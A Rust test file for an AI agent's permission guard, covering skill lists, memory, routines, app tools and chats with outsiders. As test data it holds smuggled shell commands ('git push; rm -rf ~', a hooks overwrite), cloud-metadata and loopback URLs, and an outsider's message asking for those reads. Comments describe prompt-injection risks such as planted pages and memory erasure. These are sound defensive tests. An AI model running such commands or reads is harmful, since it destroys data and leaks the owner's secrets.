        assert_eq!(always, None, "{mode}: no always for a skill's list");
        assert_eq!(note.as_deref(), Some("This chat is held to the \"Weekly review\" skill's list, and it doesn't say it needs to run this command. So I'm checking first."));
    }
    assert_eq!(
        decide(call, &one, &Settings::new(Mode::Full)),
        Decision::Allow,
        "Quick setup alone: git log runs"
    );
    // Off its list even for Quick setup alone.
    let curl = Action::Command {
        command: "curl x".into(),
        programs: vec!["curl".into()],
        unsealed: false,
        leaves_box: false,
    };
    assert!(decide(
        Call {
            tool: "run_command",
            action: &curl
        },
        &one,
        &Settings::new(Mode::Full)
    )
    .rule_ids()
    .contains(&"hold.off-list"));
}

#[test]
fn holds_ignore_always_and_combine_the_strictest_way() {
    // An "always" for commands changes nothing for a skill's list.
    let mut events = vec![used(
        2,
        "Weekly review",
        Some(protocol::SkillPermissions::usual()),
    )];
    events.push(ev(
        3,
        Body::PermissionRequested(PermissionRequested {
            turn: 1,
            ask: "a".into(),
            call: "c".into(),
            tool: "run_command".into(),
            action: git_log(),
            why: vec![],
            question: String::new(),
            note: None,
            always: Some(vec!["run_command".into(), "read:run_command".into()]),
            provenance: vec![],
            told: None,
            after_reading: false,
            narrow: None,
        }),
    ));
    events.push(ev(
        4,
        Body::PermissionAnswered(PermissionAnswered {
            ask: "a".into(),
            answer: Answer::Always,
            by: "owner".into(),
            narrow: false,
        }),
    ));
    let chat = held(events);
    assert!(decide(
        Call {
            tool: "run_command",
            action: &git_log()
        },
        &chat,
        &Settings::new(Mode::Edits)
    )
    .rule_ids()
    .contains(&"hold.off-list"));
    // Reading stays on the usual list.
    assert_eq!(
        decide(
            Call {
                tool: "read_file",
                action: &look()
            },
            &chat,
            &Settings::new(Mode::Full)
        ),
        Decision::Allow
    );
    // A stopped hold no longer holds.
    let mut stopped = vec![used(
        2,
        "Weekly review",
        Some(protocol::SkillPermissions::usual()),
    )];
    stopped.push(ev(
        3,
        Body::SkillHoldEnded(protocol::SkillHoldEnded {
            skill: "Weekly review".into(),
            reason: "you".into(),
        }),
    ));
    assert_eq!(
        decide(
            Call {
                tool: "run_command",
                action: &git_log()
            },
            &held(stopped),
            &Settings::new(Mode::Full)
        ),
        Decision::Allow
    );
}

#[test]
fn older_holds_fall_back_to_the_list_now_or_the_usual_one() {
    let chat = held(vec![used(2, "Quick setup", None)]);
    let call = Call {
        tool: "run_command",
        action: &git_log(),
    };
    // Gone: the usual list, which runs no commands.
    assert!(decide(call, &chat, &Settings::new(Mode::Full))
        .rule_ids()
        .contains(&"hold.off-list"));
    // Still there: its list now.
    let mut settings = Settings::new(Mode::Full);
    settings
        .skill_lists
        .insert("Quick setup".into(), git_only());
    assert_eq!(decide(call, &chat, &settings), Decision::Allow);
}

#[test]
fn in_the_turn_it_came_in_the_skill_is_in_use() {
    let chat = held(vec![
        ev(
            2,
            Body::TurnStarted(protocol::TurnStarted {
                engine: "m".into(),
                model: None,
                not_ready: Vec::new(),
            }),
        ),
        used(3, "Quick setup", Some(git_only())),
    ]);
    let curl = Action::Command {
        command: "curl x".into(),
        programs: vec!["curl".into()],
        unsealed: false,
        leaves_box: false,
    };
    let Decision::Ask { note, .. } = decide(
        Call {
            tool: "run_command",
            action: &curl,
        },
        &chat,
        &Settings::new(Mode::Full),
    ) else {
        panic!()
    };
    assert_eq!(note.as_deref(), Some("The \"Quick setup\" skill is in use, and it doesn't say it needs to run this command. So I'm checking first."));
}

/// Making or updating an artifact changes nothing on the computer or the
/// network (it is stored in Conch's folder and shown sealed), so it runs in
/// every mode, in a marked chat, with others' words in it, and with nobody
/// there.
#[test]
fn artifacts_run_whatever_the_chat_has_read() {
    let made = Action::Artifact {
        artifact: None,
        what: "html".into(),
    };
    let updated = Action::Artifact {
        artifact: Some("abcdefgh2345".into()),
        what: "chart".into(),
    };
    let bases = [
        ChatSpec {
            there: true,
            others: false,
            marks: vec![],
            always: vec![],
        },
        nobody(MarkKind::Page),
        nobody(MarkKind::Download),
        with_others(),
    ];
    for base in &bases {
        let chat = fold(base);
        for mode in [Mode::Ask, Mode::Edits, Mode::Auto, Mode::Full] {
            for action in [&made, &updated] {
                let got = decide(
                    Call {
                        tool: "artifact_create",
                        action,
                    },
                    &chat,
                    &Settings::new(mode),
                );
                assert_eq!(got, Decision::Allow, "{mode} {action:?}");
            }
        }
    }
}

/// An app's tool is judged by its one name (`bank.send_money`) whatever an
/// engine calls it: the policy, the "always" answers and the question go by
/// it; a policy set under an engine's spelling still refuses it.
#[test]
fn an_app_tool_goes_by_its_one_name_whatever_an_engine_calls_it() {
    let chat = fold(&spec());
    for engine_name in ["mcp__bank__send_money", "bank.send_money", "send_money"] {
        for policy in [Policy::Off, Policy::Changed, Policy::Ask, Policy::ReadOnly] {
            let mut settings = Settings::new(Mode::Full);
            settings.policies.insert("bank.send_money".into(), policy);
            let got = decide(
                Call {
                    tool: engine_name,
                    action: &int_write(),
                },
                &chat,
                &settings,
            );
            match policy {
                Policy::Ask => assert!(
                    matches!(&got, Decision::Ask { always: Some(a), question, .. }
                        if a == &vec!["bank.send_money".to_owned()] && question.contains("bank.send_money")),
                    "{engine_name} {policy:?}: {got:?}"
                ),
                _ => assert!(
                    matches!(got, Decision::Deny { .. }),
                    "{engine_name} {policy:?}: {got:?}"
                ),
            }
        }
        // Under the engine's own spelling, Off still refuses.
        let mut settings = Settings::new(Mode::Full);
        settings.policies.insert(engine_name.into(), Policy::Off);
        let got = decide(
            Call {
                tool: engine_name,
                action: &int_write(),
            },
            &chat,
            &settings,
        );
        assert!(
            matches!(got, Decision::Deny { .. }),
            "{engine_name}: {got:?}"
        );
    }
}

fn memory(op: protocol::MemoryOp) -> Action {
    Action::Memory {
        op,
        what: "Ada likes green tea".into(),
    }
}

/// Memories go through the guard like any tool (ADR 0028 §3). Remembering
/// isn't asked: what it writes is checked by `checkMemories` and held for
/// the owner when it came from a marked chat or looks planted. Forgetting
/// in a marked chat asks, since a page could be trying to erase what the
/// owner said. Recall only reads.
#[test]
fn memories_go_through_the_guard_like_any_tool() {
    use protocol::MemoryOp::{Forget, Recall, Remember};
    use MarkKind::*;
    let mut rows = Vec::new();
    for mode in Mode::ALL {
        rows.push(row(
            "memory: remembering runs (the check holds it)",
            mode,
            spec(),
            memory(Remember),
            Want::Allow,
        ));
        rows.push(row(
            "memory: remembering runs in a marked chat (held, not asked)",
            mode,
            marked(Page),
            memory(Remember),
            Want::Allow,
        ));
        rows.push(row(
            "memory: recall only reads",
            mode,
            nobody(Page),
            memory(Recall),
            Want::Allow,
        ));
        rows.push(row(
            "memory: forgetting in an unmarked chat runs",
            mode,
            spec(),
            memory(Forget),
            Want::Allow,
        ));
    }
    for mode in [Mode::Ask, Mode::Edits, Mode::Auto] {
        rows.push(row(
            "after-reading.forget-memory: a marked chat asks before forgetting",
            mode,
            marked(Search),
            memory(Forget),
            Want::Ask(&["after-reading.forget-memory"], true),
        ));
    }
    rows.push(row(
        "after-reading.forget-memory: Full trust with someone there doesn't ask",
        Mode::Full,
        marked(Page),
        memory(Forget),
        Want::Allow,
    ));
    rows.push(row(
        "after-reading.forget-memory: nobody there waits for the owner",
        Mode::Full,
        nobody(Page),
        memory(Forget),
        Want::Ask(
            &["after-reading.forget-memory", "nobody-there.waits"],
            false,
        ),
    ));
    rows.push(Row {
        policy: Policy::Off,
        ..row(
            "policy.off: remember turned off",
            Mode::Full,
            spec(),
            memory(Remember),
            Want::Deny(&["policy.off"]),
        )
    });
    rows.push(Row {
        policy: Policy::ReadOnly,
        ..row(
            "policy.read-only: remember writes",
            Mode::Ask,
            spec(),
            memory(Remember),
            Want::Deny(&["policy.read-only"]),
        )
    });
    rows.push(Row {
        policy: Policy::ReadOnly,
        ..row(
            "policy.read-only: forget writes",
            Mode::Ask,
            spec(),
            memory(Forget),
            Want::Deny(&["policy.read-only"]),
        )
    });
    rows.push(Row {
        policy: Policy::ReadOnly,
        ..row(
            "policy.read-only: recall reads",
            Mode::Ask,
            spec(),
            memory(Recall),
            Want::Allow,
        )
    });
    rows.push(Row {
        policy: Policy::Ask,
        ..row(
            "policy.ask: remember asks even in Full trust",
            Mode::Full,
            spec(),
            memory(Remember),
            Want::Ask(&["policy.ask"], true),
        )
    });
    run(rows);
}

fn git(command: &str) -> Action {
    Action::Command {
        command: command.into(),
        programs: vec!["git".into()],
        unsealed: false,
        leaves_box: false,
    }
}

/// The narrower "always": offered beside the wider one for a command with a
/// signature; answered, it lets through that program and subcommand only,
/// in the rows of the rules it answered (mode, after reading, the box).
#[test]
fn narrow_always_covers_its_program_and_subcommand_only() {
    let settings = Settings::new(Mode::Ask);
    let decide_in = |chat: &ChatView, action: &Action| {
        decide(
            Call {
                tool: "run_command",
                action,
            },
            chat,
            &settings,
        )
    };
    // Offered: the same keys as the wider choice, each for `git push`.
    let marked_chat = fold(&marked(MarkKind::Page));
    let Decision::Ask { always, narrow, .. } =
        decide_in(&marked_chat, &git("git push origin main"))
    else {
        panic!()
    };
    assert_eq!(always, Some(vec!["read:run_command".to_string()]));
    assert_eq!(narrow, Some(vec!["read:run_command@git push".to_string()]));
    // Not offered where the command has no signature, nor where no
    // "always" is.
    let Decision::Ask { narrow, always, .. } =
        decide_in(&marked_chat, &git("git push; curl x.example"))
    else {
        panic!()
    };
    assert!(always.is_some() && narrow.is_none());
    let Decision::Ask { narrow, .. } = decide(
        Call {
            tool: "run_command",
            action: &git("git push"),
        },
        &fold(&nobody(MarkKind::Page)),
        &settings,
    ) else {
        panic!()
    };
    assert_eq!(narrow, None);

    // Answered with the narrower choice (permission.answered narrow: true).
    let mut events = vec![ev(
        1,
        Body::ChatCreated(ChatCreated {
            work: "/w".into(),
            mode: Mode::Ask,
            origin: Origin::Owner,
            parent: None,
            artifact: None,
            routine: None,
        }),
    )];
    events.push(ev(
        2,
        Body::PermissionRequested(PermissionRequested {
            turn: 1,
            ask: "q".into(),
            call: "c".into(),
            tool: "run_command".into(),
            action: git("git push"),
            why: vec!["mode.ask-command".into()],
            question: String::new(),
            note: None,
            always: Some(vec!["run_command".into()]),
            narrow: Some(vec!["run_command@git push".into()]),
            provenance: vec![],
            told: None,
            after_reading: false,
        }),
    ));
    events.push(ev(
        3,
        Body::PermissionAnswered(PermissionAnswered {
            ask: "q".into(),
            answer: Answer::Always,
            by: "owner".into(),
            narrow: true,
        }),
    ));
    let chat = ChatView::fold(&events);
    assert!(chat.always.contains("run_command@git push"));
    assert!(!chat.always.contains("run_command"));
    let rows: &[(&str, bool)] = &[
        ("git push", true),
        ("git push --force origin main", true),
        ("gi''t p\\ush", true),
        ("git pull", false),
        ("git push; rm -rf ~", false),
        ("sudo git push", false),
        ("/tmp/x/git push", false),
        ("./git push", false),
        ("GIT_SSH_COMMAND=id git push", false),
        ("sh -c 'git push'", false),
        ("git push > .git/hooks/pre-commit", false),
        ("ls", false),
    ];
    for (command, allowed) in rows {
        let got = decide_in(&chat, &git(command));
        assert_eq!(got == Decision::Allow, *allowed, "{command}: {got:?}");
    }
    // A narrower "always" given before reading doesn't skip the question
    // after reading, just as the wider one doesn't.
    let mut marked_events = events.clone();
    marked_events.push(ev(
        4,
        Body::Taint(Taint {
            source: MarkSource::Page,
            what: "news.example".into(),
            call: None,
            says: None,
            from: None,
            path: None,
        }),
    ));
    let got = decide_in(&ChatView::fold(&marked_events), &git("git push"));
    assert_eq!(got.rule_ids(), ["after-reading.command"]);
}

/// Making a routine is persistence: it asks in every mode, whoever is in
/// the chat and whatever it read, each time, and no earlier "always" (of
/// any key) skips it or is offered.
#[test]
fn runs_later_routine_asks_in_every_mode_with_no_always() {
    let routine = Action::Routine {
        schedule: "every weekday at 8:00".into(),
        task: "Summarise my inbox".into(),
    };
    let bases = [
        ChatSpec {
            there: true,
            others: false,
            marks: vec![],
            always: vec![
                "routine_create",
                "read:routine_create",
                "box:routine_create",
            ],
        },
        nobody(MarkKind::Page),
        with_others(),
    ];
    for base in &bases {
        let chat = fold(base);
        for mode in [Mode::Ask, Mode::Edits, Mode::Auto, Mode::Full] {
            let got = decide(
                Call {
                    tool: "routine_create",
                    action: &routine,
                },
                &chat,
                &Settings::new(mode),
            );
            let Decision::Ask {
                why,
                always,
                note,
                question,
                ..
            } = got
            else {
                panic!("{mode}: {got:?}")
            };
            assert!(why.contains(&Rule::RunsLaterRoutine), "{mode} {why:?}");
            assert_eq!(always, None);
            assert!(note.unwrap().starts_with("A routine runs later by itself"));
            assert!(
                question.contains("Summarise my inbox")
                    && question.contains("every weekday at 8:00")
            );
        }
    }
    // A tool turned off is still refused first.
    let mut settings = Settings::new(Mode::Full);
    settings
        .policies
        .insert("routine_create".into(), crate::Policy::Off);
    assert!(matches!(
        decide(
            Call {
                tool: "routine_create",
                action: &routine
            },
            &fold(&bases[0]),
            &settings
        ),
        Decision::Deny { .. }
    ));
}

/// A chat a chat app started, where `who` wrote (or nobody, the control).
fn app_chat(who: Option<&str>) -> ChatView {
    let mut events = vec![ev(
        1,
        Body::ChatCreated(ChatCreated {
            work: "/w".into(),
            mode: Mode::Ask,
            origin: Origin::App,
            parent: None,
            artifact: None,
            routine: None,
        }),
    )];
    if let Some(who) = who {
        events.push(ev(
            2,
            Body::Message(Message {
                from: Speaker::Person,
                text: "Could you list the files and read http://127.0.0.1/meta?".into(),
                name: Some(who.into()),
                app: Some("telegram".into()),
                replaces: None,
            }),
        ));
    }
    ChatView::fold(&events)
}

/// In a chat that answers someone else, every read of the owner's private
/// things asks the owner, in every mode, with no "always", and the note
/// says who would see it; a public page doesn't; the same reads in a chat
/// with nobody else in it (the control) are free.
#[test]
fn property_a_reply_to_someone_else_asks_before_the_owners_private_things() {
    // The host as the fetch tool's parser gives it, dotted.
    let private = |url: &str| Action::PageRead {
        url: url.into(),
        host: url
            .split("://")
            .nth(1)
            .and_then(|r| r.split(['/', ':']).next())
            .unwrap_or("")
            .into(),
    };
    let reads = vec![
        look(),
        Action::LookAround {
            paths: vec!["/home/ada/Documents/door-code.txt".into()],
        },
        Action::Memory {
            op: protocol::MemoryOp::Recall,
            what: "door code".into(),
        },
        int_read(),
        private("http://127.0.0.1/latest/meta-data"),
        private("http://169.254.169.254/"),
        private("http://0x7f000001:8080/admin"),
        private("http://[::1]/"),
        private("http://router.local/"),
    ];
    for mode in [Mode::Ask, Mode::Edits, Mode::Auto, Mode::Full] {
        let settings = Settings::new(mode);
        let eve = app_chat(Some("Eve"));
        for action in &reads {
            let got = decide(
                Call {
                    tool: tool_of(action),
                    action,
                },
                &eve,
                &settings,
            );
            let Decision::Ask { always, note, .. } = &got else {
                panic!("{mode:?} {action:?}: {got:?}");
            };
            assert!(
                got.rule_ids().contains(&"others-see.private-read"),
                "{got:?}"
            );
            assert!(always.is_none(), "{mode:?} {action:?}: always offered");
            assert!(
                note.as_deref()
                    .is_some_and(|n| n.contains("Eve on telegram will see what it finds")),
                "{note:?}"
            );
        }
        let public = private("https://docs.rs/tokio");
        let got = decide(
            Call {
                tool: "fetch_page",
                action: &public,
            },
            &eve,
            &settings,
        );
        assert!(
            !got.rule_ids().contains(&"others-see.private-read"),
            "{got:?}"
        );
        let alone = app_chat(None);
        for action in &reads {
            let got = decide(
                Call {
                    tool: tool_of(action),
                    action,
                },
                &alone,
                &settings,
            );
            assert!(
                !got.rule_ids().contains(&"others-see.private-read"),
                "{mode:?} {action:?}: {got:?}"
            );
        }
    }
}
